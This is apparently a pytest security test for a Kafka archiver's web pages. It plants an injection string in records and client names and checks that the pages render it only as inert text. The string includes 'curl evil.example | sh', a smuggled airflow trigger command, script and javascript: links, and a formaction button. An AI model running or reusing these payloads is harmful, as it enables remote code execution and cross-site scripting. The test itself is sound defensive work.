"""Text of records, fields and clients on the page, with records shown: it is text, and nothing else."""

import json
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from kafka_archiver.config import Archive
from kafka_archiver.messages.errors import PolicyError
from kafka_archiver.state.status.facts import DagRun, Facts, TaskFailure
from tests.dags.conftest import Session
from tests.support.page import Page
from tests.support.topics import DAY, Record
from tests.support.twin_archive import TwinArchive

pytestmark = pytest.mark.dags

MARK = "evil.example"
EVIL = (
    """<button formaction="//evil.example/b">evil.example</button>`curl evil.example | sh` `airflow dags trigger"""
    """ archive_orders --conf '{"policies": {"lost_offsets": "record_loss"}}' evil.example`"><script>evil.example"""
    "</script><a href='javascript:evil.example'>x</a>\u202e\x1b[31m"
)
VOID = ("br", "col", "hr", "img", "input", "link", "meta")
# What somebody may click, send or copy to a shell.
OURS = ("a", "button", "code", "form", "kbd", "script", "style", "textarea")
AS_TEXT = ("alt", "aria-label", "title", "value")


class Reading(HTMLParser):
    """Counts texts with the mark; `obeyed` has each place where it is more than text."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.texts = 0
        self.obeyed: list[object] = []

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.obeyed += [
            (tag, name, value)
            for name, value in attrs
            if name.startswith("on") or name == "formaction" or (MARK in (value or "") and name not in AS_TEXT)
        ]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self.open and self.open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if MARK in data:
            self.texts += 1
            self.obeyed += [(tag, data) for tag in self.open if tag in OURS]


@pytest.fixture
def attacked(orders: Path, session: Session, monkeypatch: pytest.MonkeyPatch) -> TwinArchive:
    """An archive whose records have such text everywhere; a client with such a name is in its group."""
    twin = TwinArchive(1, 1, policies={"bad_record": "dead_letter"}, value={"decode": "json"})
    store = {"url": "memory://x", "content": "record", "layout": {"fields": [{"field": "value.g", "as": "g"}]}}
    other = {"store": store, "timestamp": {"from": "value", "path": "t"}}
    twin.archive = Archive.model_validate(twin.archive.model_dump(by_alias=True) | other)
    values = ({"g": EVIL, "t": DAY}, {"g": "fine", "t": DAY, EVIL: EVIL}, {"g": "fine", "t": EVIL})
    records = [Record(0, DAY, json.dumps(value).encode(), EVIL.encode(), [(EVIL, EVIL.encode())]) for value in values]
    twin.twin.produce("orders", records)
    twin.run(0, "scheduled")
    twin.twin.live[twin.archive.group] = [f"{EVIL}@127.0.0.1"]
    monkeypatch.setattr("kafka_archiver.orchestration.page.archives.open_archive", lambda _: twin.context)
    monkeypatch.setenv("ARCHIVER_PAGE_RECORDS", "all")
    return twin


def pages(attacked: TwinArchive) -> Iterator[str]:
    """Yield the paths of the pages; the first three show records."""
    hour = "/archives/orders/hours/2026-11-21T00"
    proof = attacked.proof(0)
    assert proof
    [letters] = [stat.key for stat in attacked.world.store.list("_dead_letter/")]
    yield f"/archives/orders/records?at={quote('orders+0@0')}&count=3"
    yield f"/archives/orders/records?at={quote('orders+0@1')}&count=1"
    yield f"{hour}/dead-letters?key={quote(letters)}"
    yield hour
    yield from ("/archives/orders", "/archives/orders/plan", "/archives/orders/year", "/")


def test_text_of_records_and_clients_is_no_command_button_or_link_of_the_page(
    attacked: TwinArchive, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(PolicyError) as raised:
        attacked.run(1, "scheduled")
    assert MARK not in " ".join(action.command for action in raised.value.actions)
    at, cause = datetime.now(UTC), str(raised.value)
    failure = TaskFailure(
        task="plan", attempts=1, permanent=True, cause=cause, actions=raised.value.actions, kinds=raised.value.kinds
    )
    failed = DagRun(run_id="scheduled__1", state="failed", forward=True, date=at, due=at, ended=at, failure=failure)
    for module in ("archives", "details", "action_routes"):
        monkeypatch.setattr(
            f"kafka_archiver.orchestration.page.{module}.facts_of",
            lambda *_: Facts(dag_id="archive_orders", runs=(failed,)),
        )
    page = Page()
    client = page.user("admin")
    page.refresh("orders")
    shown = {}
    for path in pages(attacked):
        answer = client.get(f"/archiver{path}")
        assert answer.status_code == 200, (path, answer.text)
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        reading = Reading()
        reading.feed(answer.text)
        assert (path, reading.obeyed, "\u202e" in answer.text, "\x1b" in answer.text) == (path, [], False, False)
        shown[path] = reading.texts
    assert all(list(shown.values())[:5]), shown
